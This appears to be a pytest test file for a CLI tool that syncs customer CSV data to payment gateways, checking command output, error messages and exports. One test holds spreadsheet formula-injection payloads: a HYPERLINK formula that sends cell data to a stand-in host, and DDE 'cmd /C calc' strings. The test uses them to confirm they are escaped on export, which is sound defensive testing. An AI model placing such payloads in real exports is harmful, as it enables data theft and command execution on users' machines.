"""Output of ``plan``, ``status``, ``verify`` and ``migrate``, and errors of bulk commands."""

import csv
import re
from pathlib import Path

import pytest
from bulk.customers import write_csv
from cli.conftest import Command

from wonder_customers.bulk import Journal, sources
from wonder_customers.cli import progress
from wonder_customers.cli.exit_codes import FAILED, USAGE
from wonder_customers.simulator.server import SimulatorServer


def test_plan_names_changed_fields(at_simulator: Command, folder: Path) -> None:
    write_csv(folder / "old.csv", 3)
    assert at_simulator("sync", "old.csv", "--to", "monri")[0] == 0
    new = write_csv(folder / "new.csv", 3)
    new.write_text(new.read_text().replace("Ada Nr 1 v1", "Eve").replace("ada.1@example.com", "eve@example.com"))
    code, out, _ = at_simulator("plan", "new.csv", "--to", "monri")
    assert code == 0
    assert "row 2, c-1: email, name would change" in out or "row 2, c-1: name, email would change" in out


@pytest.mark.parametrize("gateway", ["wonder", "paydock", "monri"])
def test_emptied_cell_is_planned_cleared_and_verified(
    gateway: str, at_simulator: Command, server: SimulatorServer, folder: Path
) -> None:
    source, journal = write_csv(folder / "c.csv", 2), f"c.csv.{gateway}.journal"
    assert at_simulator("sync", "c.csv", "--to", gateway, "--workers", "1")[0] == 0
    source.write_text(source.read_text().replace("ada.1@example.com", ""))
    assert "clears email: 1" in at_simulator("plan", "c.csv", "--to", gateway)[1]
    assert "clears" not in at_simulator("plan", "c.csv", "--to", gateway, "--empty", "keep")[1]
    code, out, _ = at_simulator("sync", "c.csv", "--to", gateway)
    assert (code, "Fields cleared because their cells are empty: email (1)" in out) == (0, True)
    assert at_simulator("verify", journal)[0] == 0
    assert [bool(it.get("email")) for it in server.store.customers(gateway)] == [True, False]


def test_plan_counts_unconfirmed_rows(at_simulator: Command, server: SimulatorServer, folder: Path) -> None:
    write_csv(folder / "c.csv", 2)
    assert at_simulator("sync", "c.csv", "--to", "wonder", "--first", "1")[0] == 0
    journal = Journal.existing(folder / "c.csv.wonder.journal")
    journal._execute("UPDATE rows SET state = ?", ["sending"])
    write_csv(folder / "c.csv", 2, version="2")
    code, out, _ = at_simulator("plan", "c.csv", "--to", "wonder", "--journal", str(journal.path))
    assert code == 0
    assert "Unconfirmed rows of an earlier run, which will be looked up before they are sent: 1." in out


def test_status_shows_failures_and_the_next_command(
    at_simulator: Command, server: SimulatorServer, folder: Path
) -> None:
    write_csv(folder / "s.csv", 30)
    server.faults.add("server_error", times=None, status=400, method="POST")
    assert at_simulator("sync", "s.csv", "--to", "wonder", "--max-failures", "3")[0] == 3
    code, out, _ = at_simulator("status", "s.csv.wonder.journal")
    assert code == 0
    assert "failed rows by reason" in out
    assert "run 1: failures" in out
    assert "To continue, run: wonder-customers resume s.csv.wonder.journal" in out


def test_status_names_sync_if_rows_could_not_be_sent(at_simulator: Command, folder: Path) -> None:
    lines = ["reference,name,email,phone", *(f"c-{number},Ada,a@example.com,none" for number in range(60))]
    (folder / "c.csv").write_text("\n".join(lines), encoding="utf-8")
    code, out, err = at_simulator("plan", "c.csv", "--to", "monri")
    assert (code, "`sync` would stop early, after 0 requests." in out) == (FAILED, True)
    assert "`sync` would stop: 60 of 60 rows cannot be sent" in err
    code, out, _ = at_simulator("sync", "c.csv", "--to", "monri")
    assert (code, "stopped: too many rows are invalid" in out) == (3, True)
    out = at_simulator("status", "c.csv.monri.journal")[1]
    assert "c.csv.monri.journal (monri): no row was sent" in out
    assert "run the same `sync` or `migrate` again" in out
    assert "wonder-customers resume" not in out


def test_verify_sample_prints_a_confidence_interval(
    at_simulator: Command, server: SimulatorServer, folder: Path
) -> None:
    write_csv(folder / "v.csv", 20)
    assert at_simulator("sync", "v.csv", "--to", "monri")[0] == 0
    code, out, _ = at_simulator("verify", "v.csv.monri.journal", "--sample", "10")
    assert code == 0
    assert "10 of 20 rows were read back" in out
    assert "Between 0.00% and 27.75% of all rows differ (95% confidence)." in out


def test_migrate_counts_customers_that_cannot_be_sent(
    at_simulator: Command, server: SimulatorServer, folder: Path
) -> None:
    rows = [
        "reference,name,email,phone",
        f"m-1,{'Ada' * 20},a@example.com,+385 91 234 5678",  # longer than the 50 characters that Monri accepts
        "m-2,Eve,e@example.com,+385 91 234 5678",
    ]
    (folder / "m.csv").write_text("\n".join(rows) + "\n")
    assert at_simulator("sync", "m.csv", "--to", "paydock")[0] == 0
    nameless = "UPDATE customers SET reference = NULL, body = json_remove(body, '$.reference') WHERE reference = 'm-2'"
    server.store._connection.execute(nameless).close()
    code, out, err = at_simulator("migrate", "--from", "paydock", "--to", "monri")
    assert code == USAGE
    assert "fields whose value monri does not accept" in out
    assert "Customers that cannot be sent, because they have no reference: 1." in err


@pytest.mark.parametrize(
    "arguments", [["plan", "--to", "monri"], ["sync", "--to", "monri"], ["columns"]], ids=["plan", "sync", "columns"]
)
def test_detected_encoding_is_printed(arguments: list[str], at_simulator: Command, folder: Path) -> None:
    (folder / "w.csv").write_bytes("reference,name\nh-1,Ana Marić\nh-2,Željko Šćepanović\n".encode("cp1250"))
    code, out, err = at_simulator(arguments[0], "w.csv", *arguments[1:], "--encoding", "detect")
    assert code == 0
    assert "w.csv was read as cp1250." in " ".join((out + err).split())


def test_ids_are_exported_as_csv(at_simulator: Command, folder: Path) -> None:
    write_csv(folder / "c.csv", 3)
    assert at_simulator("sync", "c.csv", "--to", "monri")[0] == 0
    code, out, _ = at_simulator("ids", "c.csv.monri.journal")
    rows = list(csv.DictReader(out.splitlines()))
    assert (code, [row["reference"] for row in rows]) == (0, ["c-0", "c-1", "c-2"])
    assert all(row["id"] and row["state"] == "done" and row["time"].endswith("+00:00") for row in rows)
    code, nothing, err = at_simulator("ids", "c.csv.monri.journal", "-o", "ids.csv")
    assert (code, nothing, err) == (0, "", "3 ids were written to ids.csv.\n")
    assert (folder / "ids.csv").read_text(encoding="utf-8").splitlines() == out.splitlines()
    code, _, err = at_simulator("ids", "c.csv.monri.journal", "-o", "ids.csv")
    assert (code, "ids.csv already exists" in err) == (USAGE, True)


def test_exported_references_are_no_formulas(at_simulator: Command, folder: Path) -> None:
    formulas = [
        '=HYPERLINK("http://x/?"&A1)',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|'/C calc'!A0",
        "-2+3",
        "=1*1",
        "\uff1d1+1",
    ]
    unchanged = ["+385 91 234-567", "-12", "c-1", "O'Neil"]
    with (folder / "c.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["reference", "name"], *([it, "Ada Lovelace"] for it in formulas + unchanged)])
    assert at_simulator("sync", "c.csv", "--to", "monri")[0] == 0
    assert at_simulator("ids", "c.csv.monri.journal", "-o", "ids.csv")[0] == 0
    written = [row["reference"] for row in csv.DictReader((folder / "ids.csv").read_text("utf-8").splitlines())]
    assert sorted(written) == sorted([f"'{it}" for it in formulas] + unchanged)
    assert {row.reference for row in sources.read(folder / "ids.csv", unknown="ignore")} == {*formulas, *unchanged}
    assert at_simulator("forget", "c.csv.monri.journal", "--", "-2+3")[0] == 0
    assert "-2+3" not in (folder / "ids.csv").read_text("utf-8")


@pytest.mark.parametrize("name", ["resume", "verify", "retry-failed"])
def test_journal_without_a_run_is_refused(name: str, at_simulator: Command, folder: Path) -> None:
    Journal.open(folder / "j", gateway="monri", endpoint="https://example.com/")
    code, _, err = at_simulator(name, "j")
    assert code == USAGE
    assert "j contains no run. Start a run with `sync` or `migrate`." in err


@pytest.mark.parametrize("name", ["resume", "verify", "retry-failed"])
def test_missing_source_of_a_journal_is_named_with_the_option(name: str, at_simulator: Command, folder: Path) -> None:
    write_csv(folder / "c.csv", 1)
    assert at_simulator("sync", "c.csv", "--to", "monri")[0] == 0
    (folder / "c.csv").rename(folder / "d.csv")
    code, _, err = at_simulator(name, "c.csv.monri.journal")
    assert (code, "pass its path with --source." in err) == (USAGE, True)
    given = () if name == "verify" else ("--allow-changed",)
    code, _, err = at_simulator(name, "c.csv.monri.journal", "--source", "d.csv", *given)
    assert code == 0, err


@pytest.mark.parametrize("journal", [(), ("--journal", "j")])
def test_stopped_job_at_a_simulator_names_a_command_only_for_a_kept_journal(
    journal: tuple[str, ...], at_simulator: Command, folder: Path
) -> None:
    lines = ["reference,name,email,phone", *(f"c-{number},Ada,a@example.com,none" for number in range(60))]
    (folder / "c.csv").write_text("\n".join(lines), encoding="utf-8")
    code, out, err = at_simulator("sync", "c.csv", "--to", "paydock", "--simulator", *journal)
    assert code == 3
    assert "cannot be sent for the same reason" in err
    assert ("run the same `sync` or `migrate` again" in " ".join(f"{out}{err}".split())) is bool(journal)
    assert "wonder-customers resume" not in out + err


def test_resume_refuses_a_run_that_a_program_or_migrate_started(at_simulator: Command, folder: Path) -> None:
    journal = Journal.open(folder / "j", gateway="wonder", endpoint="https://example.com/")
    journal.begin({})
    journal.release()
    code, _, err = at_simulator("resume", "j")
    assert (code, "j was started by a program, which did not record its source" in err) == (USAGE, True)
    journal.begin({"migrate": "paydock"})
    journal.release()
    command = "wonder-customers migrate --from paydock --to wonder --journal j"
    assert f"To continue, run: {command}" in at_simulator("status", "j")[1]
    code, _, err = at_simulator("resume", "j")
    assert (code, f"To continue, run: {command}" in err) == (USAGE, True)


def test_resume_refuses_a_query_or_database_that_is_new(at_simulator: Command, folder: Path) -> None:
    write_csv(folder / "c.csv", 1)
    assert at_simulator("sync", "c.csv", "--to", "monri")[0] == 0
    for option, value in {"--query": "SELECT * FROM source", "--database": "sqlite:///x"}.items():
        code, _, err = at_simulator("resume", "c.csv.monri.journal", option, value)
        assert (code, f"the earlier run had no {option}. Remove the option" in err) == (USAGE, True)


def test_forget_keeps_bytes_that_are_not_utf_8(at_simulator: Command, folder: Path) -> None:
    write_csv(folder / "c.csv", 1)
    assert at_simulator("sync", "c.csv", "--to", "monri")[0] == 0
    kept = b"reference,id,state,time\r\n\xff,1,done,\r\n"
    (folder / "ids.csv").write_bytes(kept + b"c-0,2,done,\r\n")
    code, _, err = at_simulator("forget", "c.csv.monri.journal", "c-0")
    assert (code, "1 entry was removed from" in err) == (0, True)
    assert (folder / "ids.csv").read_bytes() == kept


def test_resume_refuses_a_journal_of_another_endpoint(
    at_simulator: Command, server: SimulatorServer, folder: Path
) -> None:
    write_csv(folder / "c.csv", 1)
    assert at_simulator("sync", "c.csv", "--to", "monri")[0] == 0
    code, _, err = at_simulator("resume", "c.csv.monri.journal", MONRI_BASE_URL="https://ipgtest.monri.com/")
    assert code == USAGE
    assert f"is the journal of monri at {server.origin}, not of monri at https://ipgtest.monri.com/" in err


def test_journal_of_another_merchant_is_refused_until_the_credentials_are_confirmed(
    at_simulator: Command, server: SimulatorServer, folder: Path
) -> None:
    write_csv(folder / "c.csv", 3)
    assert at_simulator("sync", "c.csv", "--to", "paydock", "--first", "2")[0] == 0
    journal, other = "c.csv.paydock.journal", server.gateways["paydock"].add_merchant(server.origin)
    sent = server.store.requests.copy()
    for words in (
        *((name, "c.csv", "--to", "paydock") for name in ("sync", "plan")),
        *((name, journal) for name in ("resume", "retry-failed", "verify")),
        ("migrate", "--from", "monri", "--to", "paydock", "--journal", journal),
    ):
        code, _, err = at_simulator(*words, **other)
        assert (code, f"{journal} is the journal of another paydock account" in err) == (USAGE, True), words
    assert server.store.requests == sent
    renewed = server.gateways["paydock"].renew_credentials(server.origin)
    assert at_simulator("resume", journal, **renewed)[0] == USAGE
    assert at_simulator("plan", "c.csv", "--to", "paydock", "--renewed-credentials", **renewed)[0] == 0
    code, out, err = at_simulator("resume", journal, **renewed)
    assert (code, "adds up" in out) == (0, True), err


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        pytest.param(
            ("--shared-limit", "redis://127.0.0.1:1", "--on", "ray", "--rate", "5"),
            "--shared-limit cannot be used with --on",
            marks=pytest.mark.long,  # importing Ray takes seconds
        ),
        (("--shared-limit", "redis://127.0.0.1:1"), "--shared-limit requires --rate"),
        (("--on", "ray", "--simulator"), "Run `wonder-customers simulator`"),
    ],
)
def test_invalid_option_for_several_processes_is_refused(
    words: tuple[str, ...], expected: str, at_simulator: Command, folder: Path
) -> None:
    pytest.importorskip("redis", reason="needs the extra shared-limit")
    if "ray" in words:
        pytest.importorskip("ray", reason="needs the extra ray")
    write_csv(folder / "c.csv", 1)
    code, _, err = at_simulator("sync", "c.csv", "--to", "monri", *words)
    assert code == USAGE
    assert expected in err


def test_terminal_shows_a_progress_bar(at_simulator: Command, server: SimulatorServer, folder: Path) -> None:
    write_csv(folder / "c.csv", 40)
    server.faults.add("rate_limited", gateway="paydock", times=2)
    server.faults.add("server_error", gateway="paydock", status=400, times=2, method="POST")
    code, out, err = at_simulator(
        "sync", "c.csv", "--to", "paydock", "--rate", "40/s", FORCE_COLOR="1", TERM="xterm-256color"
    )
    assert code == FAILED
    assert "\x1b[" in err
    for words in ("c.csv → paydock", " rows · ", "/s", " left", " rejected (HTTP 429)", " failed"):
        assert words in err, words
    assert "adds up" in out


def test_progress_bar_omits_unknown_values() -> None:
    unknown = dict.fromkeys(("rows_per_second", "p50", "p95", "seconds_left"))
    zero = {"rows": 0, "throttled": 0, "faults": 0, "failed": 0}
    assert progress._format_facts({**zero, **unknown}) == "0 rows"
    known = {"rows_per_second": 12.4, "p50": 0.05, "p95": 0.2, "seconds_left": 200}
    assert progress._format_facts({"rows": 1234, "throttled": 5, "faults": 0, "failed": 6, **known}) == (
        "1,234 rows · 12/s · 3 min 20 s left · 6 failed · 5 rejected (HTTP 429)"
    )
    # The gateway does not process requests.
    facts = {**zero, **unknown, "rows": 7, "rows_per_second": 0.0, "faults": 432}
    assert progress._format_facts(facts) == "7 rows · 0/s · 432 failed requests (retried)"


def test_plan_and_sync_count_skipped_and_incomplete_lines(at_simulator: Command, folder: Path) -> None:
    (folder / "c.csv").write_text("reference,name,email\nc-1,Ada\nreference,name,email\nTotal,,\nc-2,Bo,bo@example.org")
    for command in ("plan", "sync"):
        code, out, err = at_simulator(command, "c.csv", "--to", "monri")
        shown = f"{out}{err}".replace("\n", " ")
        assert code == 0
        assert "Skipped 1 line after the table, such as a total." in shown
        assert "Skipped 1 line that repeats the column names." in shown
        assert "1 row has fewer values than columns. The missing values are read as empty cells." in shown
        assert "1 file ends without a line break. If a file is not complete, its last value may be cut off." in shown


@pytest.mark.parametrize("options", [("--unsupported", "metadata"), ("--unsupported", "ignore"), ()])
def test_fields_that_the_gateway_does_not_have_are_named(
    options: tuple[str, ...], at_simulator: Command, folder: Path
) -> None:
    names = "reference,name,phone,description,address.city" if options else "reference,name,phone,Notiz,Stadt"
    (folder / "c.csv").write_text(f"{names}\nc-1,Ada,+385912345678,note,Zagreb\n")
    for command in ("plan", "sync"):
        code, out, err = at_simulator(command, "c.csv", "--to", "wonder", *options)
        shown = " ".join(f"{out}{err}".split())
        assert code == 0, err
        assert shown.count("does not have these fields, so they are left out: description, address.city.") == 1
    code, out, err = at_simulator("sync", "c.csv", "--to", "monri", *options)
    assert (code, "so they are left out" in f"{out}{err}") == (0, False)


def test_plan_names_the_option_for_national_phones(at_simulator: Command, folder: Path) -> None:
    (folder / "c.csv").write_text("reference,name,phone\nc-1,Ada,091 234 5678\n")
    code, out, err = at_simulator("plan", "c.csv", "--to", "monri")
    assert code == 0
    assert (
        "phone: no calling code in 1 number, such as 999 999 9999, because the row has no country. To add the code,"
        " run `sync` with --default-country and the country, such as HR."
    ) in f"{out}{err}".replace("\n", " ")
    code, out, err = at_simulator("plan", "c.csv", "--to", "monri", "--default-country", "HR")
    assert (code, "calling code" in f"{out}{err}") == (0, False)


def test_resume_advises_sync_for_options_that_it_does_not_have(at_simulator: Command, folder: Path) -> None:
    rows = [f"c-{number},Žarko,091 234 567{number}" for number in range(4)]
    (folder / "c.csv").write_text("\n".join(["reference,name,phone", *rows]), encoding="cp1250")
    assert at_simulator("sync", "c.csv", "--to", "monri", "--encoding", "detect", "--first", "2")[0] == 0
    code, out, err = at_simulator("resume", "c.csv.monri.journal")
    text = " ".join(f"{out}{err}".split())
    assert code == 0
    assert "If words look wrong, run `sync` with --encoding and the correct encoding." in text
    assert "To add the code, run `sync` with --default-country and the country, such as HR." in text


def test_plan_and_verify_count_the_entries_that_they_do_not_list(at_simulator: Command, folder: Path) -> None:
    source = write_csv(folder / "c.csv", 25)
    assert at_simulator("sync", "c.csv", "--to", "monri")[0] == 0
    (folder / "new.csv").write_text(source.read_text().replace("Ada Nr", "Eve Nr"))
    assert "and 5 more customers that would change" in at_simulator("plan", "new.csv", "--to", "monri")[1]
    source.write_text(source.read_text().replace("Ada Nr", "Eve Nr"))
    out = at_simulator("verify", "c.csv.monri.journal")[1]
    assert "and 5 more rows with a difference or without a comparison" in out
    source.write_text("reference,name,email\n" + "".join(f"d-{number},Ada,none\n" for number in range(21)))
    out = at_simulator("plan", "c.csv", "--to", "monri")[1]
    assert out.count("the value is not an e-mail address") == 5
    assert "and 16 more rows that cannot be sent" in out
    assert re.search(r"by reason\n.*\n│ invalid email │ 21 │\n", out)
    assert "and 5 more customers missing from the source" in out


def test_metadata_is_proposed_only_for_gateways_with_metadata(at_simulator: Command, folder: Path) -> None:
    (folder / "c.csv").write_text("reference,name,phone,metadata.vip\nc-1,Ada,+385 91 234 5678,yes\n")
    code, _, err = at_simulator("plan", "c.csv", "--to", "wonder")
    assert (code, "--unsupported metadata" in err) == (USAGE, False)
    assert "Leave them out with --unsupported ignore." in err


@pytest.mark.parametrize("gateway", ["wonder", "paydock", "monri"])
def test_columns_of_a_gateway_need_no_credentials(gateway: str, command: Command, folder: Path) -> None:
    (folder / "c.csv").write_text("reference,name\nc-1,Ada\n")
    code, out, err = command("columns", "c.csv", "--to", gateway)
    assert (code, "Axx" in out, err) == (0, True, "")
    (folder / "c.csv").write_text("reference,name,metadata.tier\nc-1,Ada,gold\n")
    code, _, err = command("columns", "c.csv", "--to", gateway)
    assert (code, "does not have these fields" in err) == ((USAGE, True) if gateway == "wonder" else (0, False))
